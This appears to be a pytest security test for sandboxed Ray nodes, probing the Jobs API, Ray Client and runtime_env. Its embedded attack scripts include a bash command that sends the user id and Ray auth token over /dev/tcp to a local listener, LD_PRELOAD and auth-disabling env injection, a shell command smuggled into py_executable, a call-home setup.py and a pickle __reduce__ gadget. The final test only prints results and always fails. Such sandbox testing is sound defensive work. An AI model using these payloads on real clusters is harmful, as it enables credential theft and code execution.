"""Attacks through the Jobs API, Ray Client, and what the runtime_env agent runs.

The same on stock Ray and on a node of ours; whoever can call home ran outside of
every jail.
"""

from __future__ import annotations

import json
import tarfile
from collections.abc import Iterator
from typing import Any

import pytest

from tests.node.home import CALL, SAFE, Home
from tests.node.nodes import PLAIN, Node, free_port

pytestmark = [pytest.mark.ray, pytest.mark.root]

ATTACKS = """
import json
from ray.job_submission import JobSubmissionClient

found = {}

def attempt(name, start):
    try:
        found[name] = start()
    except BaseException as error:
        found[name] = f"{type(error).__name__}: {error}"[:2000]

client = JobSubmissionClient(f"http://127.0.0.1:{DASHBOARD}")

def shell(name):
    return (f"echo {name} $(id -u) $(cat $RAY_AUTH_TOKEN_PATH) > "
            f"/dev/tcp/127.0.0.1/{HOME}")

def job(name, **options):
    def start():
        made = client.submit_job(entrypoint=f"bash -c '{shell(name)}'", **options)
        until = time.monotonic() + 45
        while not (status := client.get_job_status(made)).is_terminal():
            if time.monotonic() > until:
                client.stop_job(made)
                return ["HUNG", str(client.get_job_info(made).message), ""]
            time.sleep(0.2)
        return [status.value, str(client.get_job_info(made).message)[:3000],
                client.get_job_logs(made)[-1000:]]
    return start

def task(**options):
    return lambda: ray.get(ray.remote(os.getpid).options(**options).remote(), timeout=60)

pip = {"packages": [PACKAGE],
       "pip_install_options": ["--no-index", "--no-deps", "--no-build-isolation"]}
attempt("entrypoint", job("entrypoint"))
attempt("entrypoint_tagged", job("entrypoint_tagged", entrypoint_resources=TAG))
attempt("job_variables", job("job_variables", runtime_env={"env_vars": {
    "LD_PRELOAD": "/nonexistent/evil.so", "RAY_AUTH_MODE": "disabled"}}))
attempt("job_pip", job("job_pip", runtime_env={"pip": pip}))
attempt("job_py_executable", job("job_py_executable", runtime_env={
    "py_executable": "bash -c '" + shell("job_py_executable") + "' "}))
attempt("task_pip", task(runtime_env={"pip": pip}))
attempt("task_uv", task(runtime_env={"uv": {"packages": [PACKAGE]}}))
print(json.dumps(found))
"""
CLIENT = """
class Evil:
    def __reduce__(self):
        return (safe_call, ("client",))

evil = Evil()
ray.init(f"ray://127.0.0.1:{CLIENT}")
try:
    print(ray.get(ray.remote(lambda: evil and 7).remote(), timeout=30))
except ray.exceptions.RayError as error:
    print(type(error).__name__)
"""


@pytest.fixture(scope="module")
def package(home: Home, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A source package whose setup.py calls home, and then fails."""
    at = tmp_path_factory.mktemp("package")
    setup = at / "setup.py"
    call = (CALL + SAFE).format(port=home.port)
    setup.write_text(f"{call}safe_call('setup.py')\nraise SystemExit(1)\n")
    archive = at / "evil-1.0.tar.gz"
    with tarfile.open(archive, "w:gz") as file:
        file.add(setup, "evil-1.0/setup.py")
    return str(archive)


class Outcome:
    """What the attacks came to on one node.

    Attributes:
        found: Attack to what its owner saw.
        heard: Who called home.
        client: What the client of ``ray://`` saw.
    """

    def __init__(self, home: Home, package: str, kind: str) -> None:
        ports = {"DASHBOARD": free_port(), "CLIENT": free_port(), "HOME": home.port}
        node = Node(
            PLAIN if kind == "stock" else None,
            arguments=[
                "--include-dashboard=true",
                f"--dashboard-port={ports['DASHBOARD']}",
                f"--dashboard-agent-listen-port={free_port()}",
                f"--ray-client-server-port={ports['CLIENT']}",
            ],
            RUNTIME_ENV_RETRY_TIMES="1",
        )
        before = len(home.heard)
        try:
            values: dict[str, Any] = {**ports, "PACKAGE": package, "TAG": {}}
            if kind == "ours":
                values["TAG"] = {"sandbox:standard": 1}
            names = "".join(f"{name} = {value!r}\n" for name, value in values.items())
            self.found = json.loads(node.drive(names + ATTACKS).splitlines()[-1])
            code = (CALL + SAFE).format(port=home.port)
            self.client = node.run(f"import ray\n{names}{code}{CLIENT}")
            self.heard = {word.split()[0] for word in home.heard[before:]}
            self.words = home.heard[before:]
            self.processes = node.processes()
        finally:
            node.close()


@pytest.fixture(scope="module")
def stock(home: Home, package: str) -> Iterator[Outcome]:
    """Stock Ray."""
    yield Outcome(home, package, "stock")


@pytest.fixture(scope="module")
def ours(home: Home, package: str, stock: Outcome) -> Iterator[Outcome]:
    """A node of ours, after the control."""
    yield Outcome(home, package, "ours")


def test_x(stock, ours):
    for each in (stock, ours):
        print(json.dumps(each.found, indent=1))
        print(each.heard, each.words, each.client)
    raise AssertionError
